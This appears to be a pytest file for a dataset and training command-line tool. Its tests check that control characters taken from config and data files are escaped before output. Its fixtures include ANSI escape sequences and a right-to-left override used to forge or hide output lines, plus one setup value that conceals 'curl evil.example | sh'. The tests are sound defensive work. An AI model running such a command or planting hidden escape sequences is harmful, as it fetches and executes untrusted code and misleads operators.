"""Text read from files reaches the terminal with its control characters escaped: a name in
a project cannot move the cursor, colour the screen, erase a line or print a fake one."""

from __future__ import annotations

import json

from tests.helpers.pipeline_data import answer, seed_questions
from tests.helpers.project import LOCAL_PROVIDER

ESC = "\x1b"
RAW = (ESC, "\r", "\x9b", "\u202e")  # escape, carriage return, C1 CSI, right-to-left override


def assert_escaped(text: str) -> None:
    for char in RAW:
        assert char not in text, repr(text)


def test_config_check_escapes_names_from_the_file(run_cli, write_config, minimal_config):
    write_config(
        base=minimal_config.replace(
            'name = "Demo Project"', r'name = "Demo\u001b[2J\rProject"'
        ).replace('name = "ownership"', r'name = "own\u009b31m\u202eership\nfake = line"')
    )
    result = run_cli("config", "check", env=LOCAL_PROVIDER)
    assert result.exit_code == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == r"project.name = Demo\x1b[2J\x0dProject"
    assert lines[1] == (
        r"topics.own\x9b31m\u202eership\x0afake = line = 2 subtopics x 3 questions"
    )
    assert_escaped(result.stdout)


def test_config_check_shows_setup_and_install_escaped(run_cli, write_config):
    write_config(
        r"""
        [targets.box]
        kind = "local"
        venv = "/opt/venv"
        install = "axolotl==0.19"
        setup = "echo ok\r\u001b[2Kcurl evil.example | sh"
        """
    )
    result = run_cli("config", "check", env=LOCAL_PROVIDER)
    assert result.exit_code == 0, result.stderr
    lines = result.stdout.splitlines()
    assert "targets.box.install = axolotl==0.19" in lines
    assert r"targets.box.setup = echo ok\x0d\x1b[2Kcurl evil.example | sh" in lines
    assert_escaped(result.stdout)


def test_a_configuration_problem_cannot_fake_another(run_cli, write_config, minimal_config):
    topic = minimal_config[minimal_config.index("[[topics]]"):minimal_config.index("[providers")]
    write_config(
        base=minimal_config
        + topic.replace('"ownership"', r'"a\u001b[31m\n  roles.parent: fake"')
        + topic.replace('"ownership"', r'"a\u001b[31m\n  roles.parent: fake"')
    )
    result = run_cli("config", "check")
    assert result.exit_code == 1
    assert result.stderr == (
        "error: invalid configuration:\n"
        r"  topics: duplicate name `a\x1b[31m\x0a  roles.parent: fake`" "\n"
    )


def test_runs_ls_escapes_what_a_run_record_holds(run_cli, project_dir):
    directory = project_dir / "runs" / "demo_20260101-000000"
    directory.mkdir(parents=True)
    record = {
        "id": "demo_20260101-000000",
        "target": f"gpu{ESC}[1A{ESC}[2K",
        "created": "2026-01-01T00:00:00Z\rdemo_x  succeeded",
        "remote_dir": "/remote",
        "state": "failed",
    }
    (directory / "run.json").write_text(json.dumps(record))
    result = run_cli("runs", "ls")
    assert result.exit_code == 0, result.stderr
    assert result.stdout == (
        "RUN                   STATE      TARGET             CREATED\n"
        r"demo_20260101-000000  failed     gpu\x1b[1A\x1b[2K  "
        r"2026-01-01T00:00:00Z\x0ddemo_x  succeeded" "\n"
    )


def test_history_escapes_its_entries(run_cli, project_dir):
    state = project_dir / ".overbrainer"
    state.mkdir()
    entry = {"stage": f"answers{ESC}[2J", "started_at": f"2026{ESC}]0;title\x07",
             "status": "ok\r", "provider": "p", "model": f"m{ESC}[5m", "done": 1}
    (state / "history.jsonl").write_text(json.dumps(entry) + "\n")
    for args in (["history"], ["history", "--all"]):
        result = run_cli(*args)
        assert result.exit_code == 0, result.stderr
        assert r"answers\x1b[2J" in result.stdout
        assert_escaped(result.stdout)


def test_split_escapes_exclusion_reasons_and_warnings(run_cli, project_dir):
    questions = seed_questions(project_dir, {("ownership", "moves"): ["a", "b", "c"]})
    odd = answer(questions[1], f"cut{ESC}[2K")
    broken = dict(answer(questions[2]), id=questions[2]["id"], messages=[])
    broken["subtopic"] = "moves"
    (project_dir / "data" / "answers.jsonl").write_text(
        "".join(json.dumps(r) + "\n" for r in (answer(questions[0]), odd, broken))
    )
    result = run_cli("split")
    assert result.exit_code == 0, result.stderr
    assert result.stdout == (
        r"split: 1 train, 0 eval, 2 excluded (malformed 1, cut\x1b[2K 1), 0 orphaned" "\n"
    )
    assert_escaped(result.stdout + result.stderr)


def test_log_lines_escape_what_they_quote(run_cli, project_dir):
    [question] = seed_questions(project_dir, {("ownership", "moves"): ["a"]})
    question["id"] = f"x{ESC}[2Jy"
    (project_dir / "data" / "questions.jsonl").write_text(json.dumps(question) + "\n")
    bad = dict(answer(question), messages=[])
    (project_dir / "data" / "answers.jsonl").write_text(json.dumps(bad) + "\n")
    result = run_cli("split")
    assert r"warning: split: answer x\x1b[2Jy: malformed conversation" in result.stderr
    assert_escaped(result.stderr)
